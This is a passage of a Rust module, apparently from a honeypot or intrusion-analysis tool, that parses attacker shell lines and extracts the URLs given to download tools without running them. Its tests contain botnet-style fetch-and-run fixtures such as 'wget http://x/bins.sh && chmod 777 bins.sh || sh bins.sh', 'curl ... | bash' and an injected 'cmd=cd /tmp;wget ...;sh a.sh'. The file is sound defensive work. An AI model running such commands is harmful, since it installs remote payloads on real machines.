//! Just enough shell to see what an attacker ran: split a typed line into single commands and
//! find the URLs the download tools were asked to fetch. Never executes anything; bounded in
//! recursion depth and output count so a hostile line cannot blow up memory or the stack.

use std::borrow::Cow;
use std::iter::Peekable;

/// Nesting limit for `$(…)`, backticks and `sh -c '…'`.
const MAX_DEPTH: u8 = 4;
/// At most this many single commands are taken from one line.
pub const MAX_COMMANDS_PER_LINE: usize = 256;
/// At most this many URLs are taken from one text.
const MAX_URLS_PER_TEXT: usize = 32;

/// The bytes the splitter acts on (quotes, escapes, substitutions, separators); every other
/// byte is skipped without a look at the quoting state.
pub(crate) const SPECIAL: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b"\\'\"$`;\n\r)&|";
    let mut i = 0;
    while i < bytes.len() {
        t[bytes[i] as usize] = true;
        i += 1;
    }
    t
};

/// Calls `out` once per single command in `line`, outermost first.
pub fn split_commands(line: &str, out: &mut dyn FnMut(&str)) {
    split_commands_with_program(line, &mut |cmd, _| out(cmd));
}

/// [`split_commands`], with each command's program as [`download_urls_of`] wants it (the
/// first word without its directory), found once for both the splitter and the caller.
pub fn split_commands_with_program(line: &str, out: &mut dyn FnMut(&str, &str)) {
    let mut budget = MAX_COMMANDS_PER_LINE;
    split_into(line, 0, &mut budget, out);
}

pub(crate) fn split_into(
    line: &str,
    depth: u8,
    budget: &mut usize,
    out: &mut dyn FnMut(&str, &str),
) {
    let b = line.as_bytes();
    let mut start = 0usize;
    let mut i = 0usize;
    let (mut single, mut double) = (false, false);
    let mut inner: Vec<(usize, usize)> = Vec::new();
    let emit = |s: &str, budget: &mut usize, out: &mut dyn FnMut(&str, &str)| {
        let s = trim(s);
        let s = match s.as_bytes().first() {
            Some(b'(' | b'{') => trim(s.trim_start_matches(['(', '{'])),
            _ => s,
        };
        if s.is_empty() || s == "}" || *budget == 0 {
            return;
        }
        *budget -= 1;
        let first = first_program(s);
        out(s, first);
        if depth < MAX_DEPTH {
            if let Some(script) = shell_c_script(s, first) {
                split_into(&script, depth + 1, budget, out);
            }
        }
    };
    while i < b.len() {
        if single {
            // Inside single quotes only the closing quote means anything.
            match b[i..].iter().position(|&x| x == b'\'') {
                Some(p) => {
                    single = false;
                    i += p + 1;
                }
                None => i = b.len(),
            }
            continue;
        }
        let c = b[i];
        if !SPECIAL[usize::from(c)] {
            i = next_special(b, i + 1);
            continue;
        }
        match c {
            b'\\' => {
                i += 2;
                continue;
            }
            b'\'' if !double => single = true,
            b'"' => double = !double,
            b'$' if b.get(i + 1) == Some(&b'(') => {
                let close = matching_paren(b, i + 1);
                inner.push((i + 2, close));
                i = close + 1;
                continue;
            }
            b'`' => {
                let close = b[i + 1..]
                    .iter()
                    .position(|&x| x == b'`')
                    .map_or(b.len(), |p| i + 1 + p);
                inner.push((i + 1, close));
                i = close + 1;
                continue;
            }
            _ if double => {}
            b';' | b'\n' | b'\r' | b')' => {
                emit(&line[start..i], budget, out);
                start = i + 1;
            }
            b'&' | b'|' => {
                let prev = if i > 0 { b[i - 1] } else { 0 };
                let next = b.get(i + 1).copied().unwrap_or(0);
                let redirect = c == b'&' && (prev == b'>' || prev == b'<' || next == b'>');
                if !redirect {
                    emit(&line[start..i], budget, out);
                    let width = if next == c { 2 } else { 1 };
                    start = i + width;
                    i += width;
                    continue;
                }
            }
            _ => {}
        }
        i += 1;
    }
    if start < b.len() {
        emit(&line[start..], budget, out);
    }
    if depth < MAX_DEPTH {
        for (s, e) in inner {
            let e = e.min(b.len());
            if s < e {
                if let Some(text) = line.get(s..e) {
                    split_into(text, depth + 1, budget, out);
                }
            }
        }
    }
}

/// The index of the first byte at or after `from` that the splitter acts on, or `b.len()`.
/// Eight bytes a step while none of them is one: their lookups are independent, where a
/// byte-at-a-time search waits on each test before the next load.
fn next_special(b: &[u8], from: usize) -> usize {
    let mut i = from;
    while let Some(chunk) = b.get(i..i + 8) {
        if chunk
            .iter()
            .fold(false, |a, &x| a | SPECIAL[usize::from(x)])
        {
            break;
        }
        i += 8;
    }
    while i < b.len() && !SPECIAL[usize::from(b[i])] {
        i += 1;
    }
    i.min(b.len())
}

/// `s.trim()`, with the usual all-ASCII ends trimmed by bytes.
fn trim(s: &str) -> &str {
    // The ASCII members of Unicode's White_Space, which `str::trim` uses.
    let space = |c: &u8| matches!(c, b' ' | b'\t' | b'\n' | b'\x0B' | b'\x0C' | b'\r');
    let b = s.as_bytes();
    let start = b.iter().position(|c| !space(c)).unwrap_or(b.len());
    let end = b.iter().rposition(|c| !space(c)).map_or(start, |p| p + 1);
    // Both cuts sit next to an ASCII byte, so on character boundaries.
    let t = s.get(start..end).unwrap_or("");
    match (t.as_bytes().first(), t.as_bytes().last()) {
        (Some(f), Some(l)) if f.is_ascii() && l.is_ascii() => t,
        (None, _) | (_, None) => t,
        _ => t.trim(),
    }
}

/// The first word's name without its directory, `basename(first word)` with the first word
/// `cmd.split_ascii_whitespace().next()`: one pass over the word's bytes.
pub(crate) fn first_program(cmd: &str) -> &str {
    let b = cmd.as_bytes();
    let mut i = 0;
    while i < b.len() && b[i].is_ascii_whitespace() {
        i += 1;
    }
    let mut start = i;
    while i < b.len() && !b[i].is_ascii_whitespace() {
        if b[i] == b'/' {
            start = i + 1;
        }
        i += 1;
    }
    // Both ends sit next to ASCII bytes or the ends of `cmd`: character boundaries.
    cmd.get(start..i).unwrap_or("")
}

/// Whether `cmd` may run a program whose name contains one of `names`, behind a wrapper such as
/// `busybox` or `sudo`: a cheap test before splitting it into words. Quotes and escapes can
/// hide a name from a substring test (`w\get`), so with any of them it says yes.
fn may_name(cmd: &str, names: &[&str]) -> bool {
    cmd.bytes().any(|b| matches!(b, b'\\' | b'\'' | b'"')) || names.iter().any(|n| cmd.contains(n))
}

/// Index of the `)` closing the `(` at `open`, or the end of the text.
pub(crate) fn matching_paren(b: &[u8], open: usize) -> usize {
    let mut depth = 0usize;
    let (mut single, mut double) = (false, false);
    let mut i = open;
    while i < b.len() {
        let c = b[i];
        match c {
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'\\' if !single => i += 1,
            b'(' if !single && !double => depth += 1,
            b')' if !single && !double => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
        i += 1;
    }
    b.len()
}

/// The shell words of a single command, quotes removed. Good enough for argument vectors of
/// download tools; no expansion is performed.
pub fn words(cmd: &str) -> Vec<Cow<'_, str>> {
    Words::new(cmd).collect()
}

/// [`words`] one at a time, so a caller that stops early or keeps no list allocates none.
pub struct Words<'a> {
    cmd: &'a str,
    at: usize,
}

impl<'a> Words<'a> {
    pub fn new(cmd: &'a str) -> Words<'a> {
        Words { cmd, at: 0 }
    }
}

impl<'a> Iterator for Words<'a> {
    type Item = Cow<'a, str>;

    fn next(&mut self) -> Option<Cow<'a, str>> {
        let (cmd, b) = (self.cmd, self.cmd.as_bytes());
        let mut i = self.at;
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        if i >= b.len() {
            self.at = i;
            return None;
        }
        let start = i;
        // Most words hold no quote or escape: they end at the next space, borrowed.
        while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'\'' | b'"' | b'\\') {
            i += 1;
        }
        if i >= b.len() || b[i].is_ascii_whitespace() {
            self.at = i;
            // Both ends sit next to ASCII bytes or the ends of `cmd`: character boundaries.
            return cmd.get(start..i).map(Cow::Borrowed);
        }
        let mut owned = cmd[start..i].to_string();
        let (mut single, mut double) = (false, false);
        while i < b.len() {
            let c = b[i];
            if single {
                if c == b'\'' {
                    single = false;
                } else {
                    push_byte(&mut owned, cmd, i);
                }
            } else if c == b'\'' && !double {
                single = true;
            } else if c == b'"' {
                double = !double;
            } else if c == b'\\' && i + 1 < b.len() {
                i += 1;
                push_byte(&mut owned, cmd, i);
            } else if c.is_ascii_whitespace() && !double {
                break;
            } else {
                push_byte(&mut owned, cmd, i);
            }
            i += 1;
        }
        self.at = i;
        Some(Cow::Owned(owned))
    }
}

/// Appends the character starting at byte `i` (whole UTF-8 sequences only, once each).
fn push_byte(word: &mut String, s: &str, i: usize) {
    if s.is_char_boundary(i) {
        if let Some(ch) = s[i..].chars().next() {
            word.push(ch);
        }
    }
}

/// The program a command runs: the first word without its directory, past `busybox`,
/// `sudo`, `nohup` and friends.
pub fn program<'a>(words: &'a [Cow<'a, str>]) -> (usize, &'a str) {
    let mut i = 0;
    while let Some(w) = words.get(i) {
        let name = basename(w);
        if is_wrapper(name) && i + 1 < words.len() {
            i += 1;
            // `timeout 30 wget …`, `nice -n 19 …`: skip the numeric or option arguments.
            while words
                .get(i)
                .is_some_and(|w| w.starts_with('-') || w.bytes().all(|b| b.is_ascii_digit()))
                && i + 1 < words.len()
            {
                i += 1;
            }
            continue;
        }
        return (i, name);
    }
    (0, "")
}

/// [`program`] over words as they come: the word that names the program, with `words` left
/// at its first argument.
fn program_word<'a>(words: &mut Peekable<Words<'a>>) -> Option<Cow<'a, str>> {
    let mut word = words.next()?;
    while is_wrapper(basename(&word)) && words.peek().is_some() {
        word = words.next()?;
        while (word.starts_with('-') || word.bytes().all(|b| b.is_ascii_digit()))
            && words.peek().is_some()
        {
            word = words.next()?;
        }
    }
    Some(word)
}

/// Programs that run the command given in their arguments.
fn is_wrapper(name: &str) -> bool {
    matches!(
        name,
        "busybox" | "sudo" | "nohup" | "exec" | "command" | "env" | "timeout" | "nice"
    )
}

/// What follows the last `/` (the whole word when there is none); a plain byte scan, as
/// these words are short and `rsplit` costs more in set-up than in searching.
fn basename(word: &str) -> &str {
    match word.bytes().rposition(|b| b == b'/') {
        Some(i) => &word[i + 1..],
        None => word,
    }
}

/// The script of `sh -c '…'`, `bash -c …`, `eval …`, when the command is one.
/// `first` is `first_program(cmd)`. The test on the program is inlined into the caller.
#[inline(always)]
pub(crate) fn shell_c_script(cmd: &str, first: &str) -> Option<String> {
    if program_roles(first) & RUNS_SCRIPTS == 0 {
        return None;
    }
    shell_c_script_of_runner(cmd)
}

/// [`shell_c_script`] for a command whose program may run a script.
#[inline(never)]
pub(crate) fn shell_c_script_of_runner(cmd: &str) -> Option<String> {
    // Every shell's name contains "sh".
    if !may_name(cmd, &["sh", "eval"]) {
        return None;
    }
    let mut w = Words::new(cmd).peekable();
    let word = program_word(&mut w)?;
    let name = basename(&word);
    if name == "eval" {
        let rest: Vec<Cow<'_, str>> = w.collect();
        return (!rest.is_empty()).then(|| rest.join(" "));
    }
    if !matches!(name, "sh" | "bash" | "ash" | "dash" | "zsh" | "ksh") {
        return None;
    }
    while let Some(arg) = w.next() {
        if arg.starts_with('-') && !arg.starts_with("--") && arg.contains('c') {
            return w.next().map(Cow::into_owned);
        }
        if !arg.starts_with('-') {
            return None;
        }
    }
    None
}

/// Calls `out` with every URL a download command (`wget`, `curl`, `tftp`, `ftpget`, also via
/// `busybox`) was asked to fetch. Scheme-less targets get `http://` (wget's and curl's default).
pub fn download_urls(cmd: &str, out: &mut dyn FnMut(&str)) {
    download_urls_of(cmd, first_program(cmd), out);
}

/// [`download_urls`] given the command's program as [`split_commands_with_program`] finds it.
/// The test on the program is inlined into the caller: most commands run no download tool.
#[inline]
pub fn download_urls_of(cmd: &str, first: &str, out: &mut dyn FnMut(&str)) {
    if program_roles(first) & RUNS_DOWNLOADS != 0 {
        download_urls_of_tool(cmd, first, out);
    }
}

/// What [`download_urls_of`] and [`shell_c_script`] ask of a command's program (the one list
/// of those names), answered at once: whether it may run a download tool ([`RUNS_DOWNLOADS`]: one, or a wrapper), and
/// whether it may run a script ([`RUNS_SCRIPTS`]: a shell, `eval`, or a wrapper). The name
/// is read as one integer by its length and compared as such, where the string comparisons
/// of those tests cost a library call each.
#[inline]
pub(crate) fn program_roles(name: &str) -> u8 {
    /// `s` as a little-endian integer.
    const fn key(s: &[u8]) -> u64 {
        let mut k = 0u64;
        let mut i = s.len();
        while i > 0 {
            i -= 1;
            k = k << 8 | s[i] as u64;
        }
        k
    }
    const D: u8 = RUNS_DOWNLOADS;
    const S: u8 = RUNS_SCRIPTS;
    const SH: u64 = key(b"sh");
    const ENV: u64 = key(b"env");
    const ASH: u64 = key(b"ash");
    const ZSH: u64 = key(b"zsh");
    const KSH: u64 = key(b"ksh");
    const WGET: u64 = key(b"wget");
    const CURL: u64 = key(b"curl");
    const TFTP: u64 = key(b"tftp");
    const SUDO: u64 = key(b"sudo");
    const BASH: u64 = key(b"bash");
    const DASH: u64 = key(b"dash");
    const EVAL: u64 = key(b"eval");
    const NOHUP: u64 = key(b"nohup");
    const FTPGET: u64 = key(b"ftpget");
    const BUSYBOX: u64 = key(b"busybox");
    const TIMEOUT: u64 = key(b"timeout");
    // Each length its own names: keys of different lengths are never compared.
    match *name.as_bytes() {
        [a, b] => match u64::from(u16::from_le_bytes([a, b])) {
            SH => S,
            _ => 0,
        },
        [a, b, c] => match u64::from(u32::from_le_bytes([a, b, c, 0])) {
            ENV => D,
            ASH | ZSH | KSH => S,
            _ => 0,
        },
        [a, b, c, d] => match u64::from(u32::from_le_bytes([a, b, c, d])) {
            WGET | CURL | TFTP => D,
            SUDO => D | S,
            BASH | DASH | EVAL => S,
            _ => 0,
        },
        [a, b, c, d, e] => match u64::from_le_bytes([a, b, c, d, e, 0, 0, 0]) {
            NOHUP => D | S,
            _ => 0,
        },
        [a, b, c, d, e, f] => match u64::from_le_bytes([a, b, c, d, e, f, 0, 0]) {
            FTPGET => D,
            _ => 0,
        },
        [a, b, c, d, e, f, g] => match u64::from_le_bytes([a, b, c, d, e, f, g, 0]) {
            TIMEOUT => D,
            BUSYBOX => D | S,
            _ => 0,
        },
        _ => 0,
    }
}

/// See [`program_roles`].
pub(crate) const RUNS_DOWNLOADS: u8 = 1;
pub(crate) const RUNS_SCRIPTS: u8 = 2;

/// The words are taken one at a time, with no list: `wget` and `curl` need no look-ahead.
/// For a command whose program is a download tool or a wrapper ([`download_urls_of`]).
#[inline(never)]
pub(crate) fn download_urls_of_tool(cmd: &str, first: &str, out: &mut dyn FnMut(&str)) {
    // A tool named first certainly names itself; behind a wrapper, look before splitting.
    if !matches!(first, "wget" | "curl" | "tftp" | "ftpget")
        && !may_name(cmd, &["wget", "curl", "ftp"])
    {
        return;
    }
    let mut w = Words::new(cmd).peekable();
    let Some(word) = program_word(&mut w) else {
        return;
    };
    let name = basename(&word);
    match name {
        "wget" | "curl" => {
            // The short options whose value is the next argument, by letter.
            let takes_value: &[u8] = if name == "wget" {
                b"OoPaUetTiY"
            } else {
                b"oHAduxeXTmbcwFEKryYz"
            };
            let mut skip = false;
            for a in w {
                if skip {
                    skip = false;
                    continue;
                }
                if a.contains("://") {
                    emit_url(&a, out);
                } else if let Some(long) = a.strip_prefix("--") {
                    skip = !long.contains('=')
                        && matches!(
                            long,
                            "output-document"
                                | "output"
                                | "user-agent"
                                | "header"
                                | "data"
                                | "user"
                                | "proxy"
                                | "referer"
                                | "request"
                                | "upload-file"
                                | "max-time"
                                | "connect-timeout"
                                | "directory-prefix"
                                | "tries"
                                | "timeout"
                                | "cookie"
                                | "retry"
                        );
                } else if a.starts_with('-') && a.len() > 1 {
                    // The last letter of an option group (`-qO`) may take a value. A last
                    // byte that is not ASCII ends a longer character and is no letter (cutting
                    // the text there would panic).
                    skip = a.as_bytes().last().is_some_and(|l| takes_value.contains(l));
                } else if looks_like_host_path(&a) {
                    out(&format!("http://{a}"));
                }
            }
        }
        "tftp" => {
            let args: Vec<Cow<'_, str>> = w.collect();
            let (mut host, mut file): (Option<&str>, Option<&str>) = (None, None);
            let mut i = 0;
            while i < args.len() {
                let a = args[i].as_ref();
                match a {
                    "-r" | "-c" => {
                        // `-c get FILE` or `-r FILE`
                        let mut j = i + 1;
                        if a == "-c" && args.get(j).is_some_and(|x| x == "get" || x == "put") {
                            j += 1;
                        }
                        file = args.get(j).map(|x| x.as_ref());
                        i = j + 1;
                        continue;
                    }
                    "-l" | "-b" | "-m" => i += 1,
                    _ if a.starts_with('-') => {}
                    _ if host.is_none() => host = Some(a),
                    _ if a.bytes().all(|b| b.is_ascii_digit()) => {}
                    _ if file.is_none() => file = Some(a),
                    _ => {}
                }
                i += 1;
            }
            if let Some(h) = host {
                out(&format!(
                    "tftp://{h}/{}",
                    file.unwrap_or("").trim_start_matches('/')
                ));
            }
        }
        "ftpget" => {
            let args: Vec<Cow<'_, str>> = w.collect();
            let mut pos: Vec<&str> = Vec::new();
            let mut i = 0;
            while i < args.len() {
                let a = args[i].as_ref();
                if matches!(a, "-u" | "-p" | "-P") {
                    i += 2;
                    continue;
                }
                if !a.starts_with('-') {
                    pos.push(a);
                }
                i += 1;
            }
            if let Some(h) = pos.first() {
                let remote = pos.last().filter(|_| pos.len() > 1).copied().unwrap_or("");
                out(&format!("ftp://{h}/{}", remote.trim_start_matches('/')));
            }
        }
        _ => {}
    }
}

fn looks_like_host_path(a: &str) -> bool {
    let host = a.split('/').next().unwrap_or("");
    let host = host.split(':').next().unwrap_or("");
    host.contains('.')
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
        && host
            .bytes()
            .next()
            .is_some_and(|b| b.is_ascii_alphanumeric())
        && !host.ends_with(".sh")
}

/// The URLs in a download tool's argument that holds `://`: those [`urls_in_text`] finds, or
/// the whole argument when none has a known scheme.
fn emit_url(raw: &str, out: &mut dyn FnMut(&str)) {
    if scheme_separator(raw.as_bytes(), 0).map_or(0, |sep| urls_from(raw, sep, out)) == 0 {
        out(raw);
    }
}

/// Calls `out` with each `http://`, `https://`, `ftp://` or `tftp://` URL found in free text
/// (an HTTP body, a query string, an injected command), up to a bound.
pub fn urls_in_text(text: &str, out: &mut dyn FnMut(&str)) {
    if let Some(sep) = scheme_separator(text.as_bytes(), 0) {
        urls_from(text, sep, out);
    }
}

/// Where the first `://` at or after `from` starts: found through the colons, where a
/// substring search spends more on its set-up than a short text takes to walk.
fn scheme_separator(b: &[u8], from: usize) -> Option<usize> {
    let mut i = from;
    loop {
        i += b.get(i..)?.iter().position(|&c| c == b':')?;
        if b.get(i + 1..i + 3) == Some(b"//") {
            return Some(i);
        }
        i += 1;
    }
}

/// [`urls_in_text`] from the first `://`, found by the caller at `sep`; returns how many URLs
/// it gave.
fn urls_from(text: &str, mut sep: usize, out: &mut dyn FnMut(&str)) -> usize {
    let b = text.as_bytes();
    let mut count = 0;
    loop {
        let mut s = sep;
        while s > 0 && b[s - 1].is_ascii_alphabetic() && sep - s < 5 {
            s -= 1;
        }
        let scheme = &text[s..sep];
        let mut e = sep + 3;
        while e < b.len() && !is_url_terminator(b[e]) {
            e += 1;
        }
        let from = e.max(sep + 3);
        let known = ["http", "https", "ftp", "tftp"]
            .iter()
            .any(|k| scheme.eq_ignore_ascii_case(k));
        if known && e > sep + 3 {
            out(&text[s..e]);
            count += 1;
            if count >= MAX_URLS_PER_TEXT {
                return count;
            }
        }
        if from >= text.len() {
            return count;
        }
        match scheme_separator(b, from) {
            Some(next) => sep = next,
            None => return count,
        }
    }
}

fn is_url_terminator(c: u8) -> bool {
    c.is_ascii_whitespace()
        || matches!(
            c,
            b'"' | b'\''
                | b'`'
                | b';'
                | b'|'
                | b'<'
                | b'>'
                | b')'
                | b'('
                | b'{'
                | b'}'
                | b'\\'
                | b','
        )
}

/// Percent-decodes `s` (and `+` as space when asked), replacing invalid UTF-8.
pub fn percent_decode(s: &str, plus_as_space: bool) -> Cow<'_, str> {
    if !(s.contains('%') || plus_as_space && s.contains('+')) {
        return Cow::Borrowed(s);
    }
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'%' if i + 2 < b.len() => match (hex(b[i + 1]), hex(b[i + 2])) {
                (Some(h), Some(l)) => {
                    out.push(h * 16 + l);
                    i += 3;
                    continue;
                }
                _ => out.push(b'%'),
            },
            b'+' if plus_as_space => out.push(b' '),
            c => out.push(c),
        }
        i += 1;
    }
    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
}

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn split(line: &str) -> Vec<String> {
        let mut v = Vec::new();
        split_commands(line, &mut |c| v.push(c.to_string()));
        v
    }

    fn urls(cmd: &str) -> Vec<String> {
        let mut v = Vec::new();
        split_commands(cmd, &mut |c| {
            download_urls(c, &mut |u| v.push(u.to_string()))
        });
        v
    }

    #[test]
    fn splits_on_every_separator() {
        assert_eq!(
            split("cd /tmp; wget http://x/bins.sh && chmod 777 bins.sh || sh bins.sh | tee o & id"),
            [
                "cd /tmp",
                "wget http://x/bins.sh",
                "chmod 777 bins.sh",
                "sh bins.sh",
                "tee o",
                "id"
            ]
        );
        assert_eq!(split("echo 'a;b' \"c|d\""), ["echo 'a;b' \"c|d\""]);
        assert_eq!(split("ls 2>&1 >/dev/null"), ["ls 2>&1 >/dev/null"]);
        assert_eq!(split("\n;;  \n"), Vec::<String>::new());
    }

    #[test]
    fn splits_substitutions_and_sh_c() {
        assert_eq!(
            split("echo $(uname -a; id)"),
            ["echo $(uname -a; id)", "uname -a", "id"]
        );
        assert_eq!(split("echo `whoami`"), ["echo `whoami`", "whoami"]);
        assert_eq!(
            split("sh -c 'cd /tmp && wget http://h/a'"),
            [
                "sh -c 'cd /tmp && wget http://h/a'",
                "cd /tmp",
                "wget http://h/a"
            ]
        );
        assert_eq!(
            split("/bin/busybox sh -c \"nproc\""),
            ["/bin/busybox sh -c \"nproc\"", "nproc"]
        );
        assert_eq!(split("(cd /tmp; id)"), ["cd /tmp", "id"]);
    }

    #[test]
    fn hostile_lines_stay_bounded() {
        let deep = "sh -c '".repeat(100) + "id";
        assert!(split(&deep).len() <= MAX_COMMANDS_PER_LINE);
        let many = "id;".repeat(10_000);
        assert_eq!(split(&many).len(), MAX_COMMANDS_PER_LINE);
        let parens = "$(".repeat(1000);
        let _ = split(&parens);
        let _ = split("`");
        let _ = split("\\");
        let _ = split("é;ü'ö");
    }

    /// The word splitter as it was, one byte at a time into a list: the oracle for [`Words`].
    fn words_by_bytes(cmd: &str) -> Vec<String> {
        let mut out = Vec::new();
        let b = cmd.as_bytes();
        let mut i = 0;
        while i < b.len() {
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            if i >= b.len() {
                break;
            }
            let start = i;
            let mut owned: Option<String> = None;
            let (mut single, mut double) = (false, false);
            while i < b.len() {
                let c = b[i];
                if single {
                    if c == b'\'' {
                        single = false;
                    } else {
                        push_byte(owned.get_or_insert_with(String::new), cmd, i);
                    }
                } else if c == b'\'' && !double {
                    owned.get_or_insert_with(|| cmd[start..i].to_string());
                    single = true;
                } else if c == b'"' {
                    owned.get_or_insert_with(|| cmd[start..i].to_string());
                    double = !double;
                } else if c == b'\\' && i + 1 < b.len() {
                    owned.get_or_insert_with(|| cmd[start..i].to_string());
                    i += 1;
                    push_byte(owned.get_or_insert_with(String::new), cmd, i);
                } else if c.is_ascii_whitespace() && !double {
                    break;
                } else if let Some(word) = owned.as_mut() {
                    push_byte(word, cmd, i);
                }
                i += 1;
            }
            out.push(owned.unwrap_or_else(|| cmd[start..i].to_string()));
        }
        out
    }

    /// Words one at a time give the list the byte loop gave, and [`program_word`] leaves the
    /// stream where [`program`]'s index points: at the program's first argument.
    fn check_words(cmd: &str) {
        let w = words(cmd);
        let got: Vec<&str> = w.iter().map(|c| c.as_ref()).collect();
        assert_eq!(got, words_by_bytes(cmd), "{cmd:?}");
        let (p, name) = program(&w);
        let mut stream = Words::new(cmd).peekable();
        let word = program_word(&mut stream);
        assert_eq!(word.as_deref().map_or("", basename), name, "{cmd:?}");
        let rest: Vec<Cow<'_, str>> = stream.collect();
        assert_eq!(rest, w[(p + 1).min(w.len())..], "{cmd:?}");
    }

    #[test]
    fn words_one_at_a_time() {
        for cmd in [
            "",
            "   ",
            "wget http://h/x -O /tmp/y",
            "  curl\t-s  'http://a b/c'  ",
            "echo \"a 'b' c\" d",
            "w\\get http://h/x",
            "x\\",
            "\\",
            "'unclosed word",
            "\"unclosed \\\" word",
            "é 'ü' \"ö\" \\ä a\u{a0}b",
            "''",
            "a''b c\"\"d",
            "busybox timeout -s 9 30 nice -n 19 wget http://h/x",
            "sudo",
            "sudo -u",
            "env 12 34",
            "/bin/busybox",
            "nohup sh -c 'id' &",
        ] {
            check_words(cmd);
        }
    }

    proptest::proptest! {
        #[test]
        fn words_one_at_a_time_on_any_command(
            parts in proptest::collection::vec(
                proptest::sample::select(vec![
                    " ", "\t", "'", "\"", "\\", "a", "wget", "busybox", "sudo", "-q", "30",
                    "http://h/x", "é", "/bin/", "\u{a0}", "$(", "`",
                ]),
                0..16,
            ),
        ) {
            check_words(&parts.concat());
        }
    }

    #[test]
    fn first_program_is_the_first_words_basename() {
        for s in [
            "",
            "  ",
            " a b",
            "wget\thttp://x",
            "é x",
            "\u{a0}x y",
            "x",
            "/usr/bin/wget x",
            "./x",
            "a/",
            " /é/sh -c",
            "dir/é",
        ] {
            let word = s.split_ascii_whitespace().next().unwrap_or("");
            let base = word.rsplit('/').next().unwrap_or("");
            assert_eq!(first_program(s), base, "{s:?}");
        }
    }

    #[test]
    fn trim_is_unicode_trim() {
        for s in [
            "",
            " ",
            " a ",
            "\u{a0}a\u{2003}",
            "\x0b\x0ca\r\n",
            "é ",
            " \u{85}",
            "a\u{a0} ",
        ] {
            assert_eq!(trim(s), s.trim(), "{s:?}");
        }
    }

    #[test]
    fn program_roles_are_the_name_tests() {
        let downloads = |n: &str| {
            matches!(
                n,
                "wget"
                    | "curl"
                    | "tftp"
                    | "ftpget"
                    | "busybox"
                    | "sudo"
                    | "nohup"
                    | "timeout"
                    | "env"
            )
        };
        let scripts = |n: &str| {
            matches!(
                n,
                "sh" | "bash"
                    | "ash"
                    | "dash"
                    | "zsh"
                    | "ksh"
                    | "busybox"
                    | "sudo"
                    | "eval"
                    | "nohup"
            )
        };
        let mut names: Vec<String> = [
            "", "w", "wget", "curl", "tftp", "ftpget", "busybox", "sudo", "nohup", "timeout",
            "env", "sh", "bash", "ash", "dash", "zsh", "ksh", "eval", "wgets", "wge", "busybox1",
            "busyboxx", "timeouts", "sh\0", "\0sh", "s", "h", "é", "shé", "WGET", "Sh",
        ]
        .map(str::to_string)
        .to_vec();
        for n in names.clone() {
            names.push(format!("{n}\0"));
            names.push(format!("\0{n}"));
            names.push(format!("{n}x"));
        }
        for n in &names {
            let want =
                (u8::from(downloads(n)) * RUNS_DOWNLOADS) | (u8::from(scripts(n)) * RUNS_SCRIPTS);
            assert_eq!(program_roles(n), want, "{n:?}");
        }
    }

    #[test]
    fn wrappers_hide_no_download_or_shell() {
        assert_eq!(urls("busybox w\\get http://h/x"), ["http://h/x"]);
        assert_eq!(urls("sudo 'curl' http://h/y"), ["http://h/y"]);
        assert_eq!(urls("busybox MIRAI"), Vec::<String>::new());
        assert_eq!(split("sudo \"ba\"sh -c id"), ["sudo \"ba\"sh -c id", "id"]);
        assert_eq!(split("busybox sh -c w"), ["busybox sh -c w", "w"]);
    }

    #[test]
    fn download_urls_from_tools() {
        assert_eq!(
            urls("wget http://1.2.3.4/bins.sh"),
            ["http://1.2.3.4/bins.sh"]
        );
        assert_eq!(urls("wget -q -O - 1.2.3.4/x.sh"), ["http://1.2.3.4/x.sh"]);
        assert_eq!(
            urls("curl -s -o /tmp/x -A ua https://e.com/m"),
            ["https://e.com/m"]
        );
        assert_eq!(
            urls("/bin/busybox wget http://h/mips; busybox tftp -g -r mips 5.6.7.8"),
            ["http://h/mips", "tftp://5.6.7.8/mips"]
        );
        assert_eq!(urls("tftp 5.6.7.8 -c get t8.sh"), ["tftp://5.6.7.8/t8.sh"]);
        assert_eq!(
            urls("ftpget -v -u anonymous -p x 9.9.9.9 f.sh f.sh"),
            ["ftp://9.9.9.9/f.sh"]
        );
        assert_eq!(urls("curl -fsSL 'http://a.b/c'|bash"), ["http://a.b/c"]);
        assert_eq!(urls("echo wget http://x/y"), Vec::<String>::new());
        assert!(urls("wget -O").is_empty());
        assert_eq!(urls("wget -qO 1.2.3.4/o http://h/a"), ["http://h/a"]);
        // An option ending in a non-ASCII character takes no value, and cutting its last
        // byte off would not be a character boundary.
        assert_eq!(urls("wget -é http://h/x"), ["http://h/x"]);
        assert_eq!(urls("curl -\u{a0} http://h/y"), ["http://h/y"]);
    }

    #[test]
    fn next_special_finds_the_first_special_byte_at_every_position() {
        for len in 0..20 {
            for at in 0..=len {
                let mut b = vec![b'a'; len];
                if at < len {
                    b[at] = b'|';
                }
                for from in 0..=len {
                    let naive = (from..len)
                        .find(|&i| SPECIAL[usize::from(b[i])])
                        .unwrap_or(len);
                    assert_eq!(super::next_special(&b, from), naive, "{len} {at} {from}");
                }
            }
        }
        assert_eq!(super::next_special(b"ab", 5), 2);
    }

    #[test]
    fn urls_in_free_text() {
        let mut v = Vec::new();
        urls_in_text(
            "cmd=cd /tmp;wget http://6.6.6.6/a.sh;sh a.sh&x=HTTPS://e.org/p?q=1 ftp:// zz://q",
            &mut |u| v.push(u.to_string()),
        );
        assert_eq!(v, ["http://6.6.6.6/a.sh", "HTTPS://e.org/p?q=1"]);
        v.clear();
        // Colons that start no `://`, a separator at the very end, one split by a colon.
        for text in [
            "a:b:/c http:/x tftp://h/f",
            "x: :/ :",
            "é:ftp://h/é",
            "http:",
            "://",
        ] {
            urls_in_text(text, &mut |u| v.push(u.to_string()));
        }
        assert_eq!(v, ["tftp://h/f", "ftp://h/é"]);
    }

    #[test]
    fn scheme_separators_are_found_as_by_a_substring_search() {
        for text in [
            "",
            ":",
            "://",
